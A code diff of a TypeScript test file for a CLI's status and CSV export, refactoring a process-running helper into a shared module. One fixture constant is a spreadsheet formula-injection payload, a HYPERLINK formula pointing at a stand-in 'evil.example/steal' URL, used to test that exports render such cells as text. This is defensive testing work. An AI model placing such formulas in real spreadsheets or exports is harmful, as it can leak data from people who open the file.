@@ -5,45 +5,18 @@
  * status is the matrix as seeded; the CSV holds the key projects only, with a BOM, and a cell a user
  * typed as `=HYPERLINK(…)` comes out as text (`'=HYPERLINK(…)`).
  */
-import { execFile } from 'node:child_process';
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import type { Filing } from '../../src/core/filing.js';
 import { createSqliteStore } from '../../src/store/sqlite-store.js';
 import type { FilingWrite } from '../../src/store/store.js';
-import { makeDataDir } from '../support/console-process.js';
-import { REPO_ROOT, event } from '../support/engine-harness.js';
+import { makeDataDir, runSciweek } from '../support/console-process.js';
+import { event } from '../support/engine-harness.js';
 import { declaration, exhibitorFiling, keyProjectFiling, summaryReportFiling } from '../unit/export/fixtures.js';
 
-const BIN = path.join(REPO_ROOT, 'bin', 'sciweek.js');
 const HYPERLINK = '=HYPERLINK("http://evil.example/steal?d=1","点击查看")';
 
-interface Run {
-  code: number | null;
-  stdout: string;
-  stderr: string;
-}
-
-/** Runs `node bin/sciweek.js …args` with a clean environment (no REDIS_URL, no platform token). */
-function sciweek(args: readonly string[], dataDir: string): Promise<Run> {
-  return new Promise((resolve) => {
-    execFile(
-      process.execPath,
-      [BIN, ...args],
-      {
-        cwd: REPO_ROOT,
-        env: { PATH: process.env['PATH'] ?? '', HOME: process.env['HOME'] ?? '', DATA_DIR: dataDir, LOG_LEVEL: 'silent' },
-        timeout: 25_000,
-        encoding: 'utf8',
-      },
-      (error, stdout, stderr) => {
-        const code = error === null ? 0 : typeof error.code === 'number' ? error.code : null;
-        resolve({ code, stdout, stderr });
-      },
-    );
-  });
-}
 
 /** RFC 4180 records of a CSV text (quoted fields may hold commas, quotes and line breaks). */
 function parseCsv(text: string): string[][] {
@@ -122,7 +95,7 @@ describe('sciweek status and export', () => {
 
   it('prints the status matrix as JSON, per district and form exactly as seeded', async () => {
     const dir = await prepare();
-    const run = await sciweek(['status', '--json'], dir);
+    const run = await runSciweek(['status', '--json'], dir);
     expect(run.stderr).toBe('');
     expect(run.code).toBe(0);
     const rows = JSON.parse(run.stdout) as StatusRow[];
@@ -154,7 +127,7 @@ describe('sciweek status and export', () => {
   it('exports one form as CSV to a file, with a BOM and formula-looking cells as text', async () => {
     const dir = await prepare();
     const out = path.join(dir, 'key-projects.csv');
-    const run = await sciweek(['export', '--format', 'csv', '--form', 'key-project', '--out', out], dir);
+    const run = await runSciweek(['export', '--format', 'csv', '--form', 'key-project', '--out', out], dir);
     expect(run.stderr).toBe('');
     expect(run.code).toBe(0);
     expect(run.stdout.startsWith(`${out} (`)).toBe(true);
